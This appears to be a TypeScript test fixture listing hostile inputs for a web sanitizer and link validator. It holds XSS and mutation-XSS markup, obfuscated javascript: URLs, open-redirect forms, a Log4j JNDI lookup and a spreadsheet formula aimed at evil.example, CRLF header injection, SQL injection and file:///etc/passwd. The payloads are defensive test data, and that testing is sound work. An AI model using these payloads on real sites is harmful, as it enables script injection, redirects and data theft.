/**
 * Markup that would run code, send a request to another host, cover the page or shadow its globals if it were parsed as
 * HTML.
 */
export const hostileMarkup = [
  '<img src="https://evil.example/pixel.png" onerror="window.ran=1"><script>window.ran=1</script><svg onload="window.ran=1"><style>*{display:none}</style>',
  '</p></div><iframe src="https://evil.example/" srcdoc="<script>parent.ran=1</script>"></iframe><object data="https://evil.example/"></object><embed src="https://evil.example/">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
  '<form id="getElementById" name="cookie" action="https://evil.example/"><input name="attributes"><button id="location">x</button></form><a id="stories" name="body">x</a>',
  '<div style="position:fixed;inset:0;z-index:99999;background:red">x</div>"><b onclick=window.ran=1>\' autofocus onfocus="window.ran=1" x="',
  '{{constructor.constructor("window.ran=1")()}} ${window.ran=1} %3Cscript%3Ewindow.ran=1%3C/script%3E &lt;script&gt;window.ran=1&lt;/script&gt; \u003Cscript>window.ran=1\u003C/script>',
];

/** Names of page globals and of properties that every object inherits. */
export const hostileNames = [
  'getElementById',
  'cookie',
  'location',
  'stories',
  'portal',
  'body',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  'ref',
  'key',
  'children',
];

/** Addresses that links must not have. */
export const unsafeHrefs = [
  'javascript:window.ran=1',
  'JaVaScRiPt:window.ran=1',
  ' javascript:window.ran=1',
  'java\tscript:window.ran=1',
  'java\nscript:window.ran=1',
  'java\u0000script:window.ran=1',
  '\u0001javascript:window.ran=1',
  '\u00a0javascript:window.ran=1',
  'javascript\u200b:window.ran=1',
  '\uff4aavascript:window.ran=1',
  'javascript&colon;window.ran=1',
  '&#106;avascript:window.ran=1',
  'javascript://example.com/%0Awindow.ran=1',
  'data:text/html,<script>window.ran=1</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'DATA:image/svg+xml,<svg onload=window.ran=1>',
  'vbscript:window.ran=1',
  'blob:https://evil.example/1',
  'filesystem:https://evil.example/1',
  'file:///etc/passwd',
  'view-source:https://evil.example/',
  'about:blank',
  'feed:javascript:window.ran=1',
  'jar:https://evil.example!/',
  'intent://evil',
  'ftp://evil.example/',
  'ws://evil.example/',
  '//evil.example/',
  '///evil.example/',
  '/\\evil.example/',
  '\\\\evil.example/',
  '/\tevil',
  '/.//evil.example/',
  '/..//evil.example/',
  '/%2e//evil.example/',
  'https:evil.example',
  'https:/evil.example',
  'https:///evil.example/',
  'https://',
  'http:\\\\evil.example',
  'https://portal@evil.example/',
  'https://user:pw@evil.example/',
  'https://evil.example\u202e/',
  'https://[evil',
  'news',
  './news',
  '../news',
  '?q=1',
  '',
  ' ',
  ' /news',
  'www.evil.example',
] as const;

/** Addresses that links can have. */
export const safeHrefs = [
  'https://www.irs.gov/',
  'HTTPS://WWW.IRS.GOV',
  'http://example.com:8080/a?b=c#d',
  'https://münchen.example/ü',
  'https://example.com/a%20b',
  'https://[2001:db8::1]/',
  'mailto:desk@portico.example',
  'tel:+16175550100',
  '/',
  '/news',
  '/news?category=a&b=%2F#c',
  '/a//b',
  '/%2F/x',
  '#',
  '#section-dates',
  '#javascript:x',
  '/javascript:window.ran=1',
] as const;

/** Texts that could be misread as code, an entity, an address or a change of text direction. */
export const hostileTexts = [
  ...hostileMarkup,
  '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
  '<svg></p><style><a id="</style><img src=1 onerror=window.ran=1>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">',
  '<svg xmlns="http://www.w3.org/2000/svg"><script>window.ran=1</script><use href="https://evil.example/x.svg#x"/></svg>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>',
  '\u2028\u2029]]>--></script></title></textarea><script>window.ran=1</script>',
  '<%= window.ran=1 %> #{window.ran=1} [[${window.ran=1}]] {%x%} {{7*7}} ${jndi:ldap://evil.example/x}',
  '=HYPERLINK("https://evil.example/","x")',
  '\r\nSet-Cookie: ran=1\r\n\r\n<script>window.ran=1</script>',
  '\u202egpj.exe\u202c \u2066\u2067x\u2069 \u200b\ufeff z\u0301\u0302\u0303',
  '\'; DROP TABLE content_items; -- " ` $1 %s %n \\',
  'java\u0001script:window.ran=1',
  '__proto__',
];

/** Texts that a database cannot store. */
export const unstorableTexts = [
  'a \u0000 inside',
  '\u0000',
  'high \ud800 alone',
  '\udc00 low alone',
  'turned \udc00\ud800',
];
